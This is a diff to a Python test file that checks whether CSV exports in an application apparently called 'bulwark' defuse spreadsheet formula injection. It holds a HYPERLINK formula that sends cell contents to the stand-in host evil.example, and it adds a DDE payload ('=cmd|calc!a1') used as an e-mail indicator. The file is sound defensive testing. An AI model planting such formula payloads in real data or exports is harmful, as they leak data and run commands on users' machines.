@@ -18,6 +18,7 @@ from bulwark.constituency.tests.factories import OrganisationFactory, UserFactor
 from bulwark.core import csvexport
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+MAIL_FORMULA = "=cmd|calc!a1"
 
 
 @pytest.mark.parametrize(
@@ -107,7 +108,9 @@ def _intel_export(world: SimpleNamespace) -> bytes:
 
     collection = Collection.objects.create(title="Feed", alias="feed")
     now = datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
-    objs = [indicator(f"{FORMULA}@evil.example", path="email-addr:value", valid_from=now)]
+    # An e-mail address may begin with "=" (RFC 5322 allows it in the local part); the
+    # formula above is no address, so intel would refuse it before any export.
+    objs = [indicator(f"{MAIL_FORMULA}@evil.example", path="email-addr:value", valid_from=now)]
     intel_services.ingest_objects(world.duty, collection, objs, raw="")
     response = Client().get("/intel/exports/csv/", **bearer(world.duty, ["intel:read"]))
     assert response.status_code == 200
@@ -131,5 +134,7 @@ def test_every_csv_export_defuses_formulas(db: Any, export: Any) -> None:
     world = _world(db)
     table = list(csv.reader(io.StringIO(export(world).decode("utf-8-sig"))))
     cells = [c for row in table for c in row]
-    assert any(c.startswith("'" + FORMULA) for c in cells), table
+    assert any(c.startswith("'" + FORMULA) or c.startswith("'" + MAIL_FORMULA) for c in cells), (
+        table
+    )
     assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], table
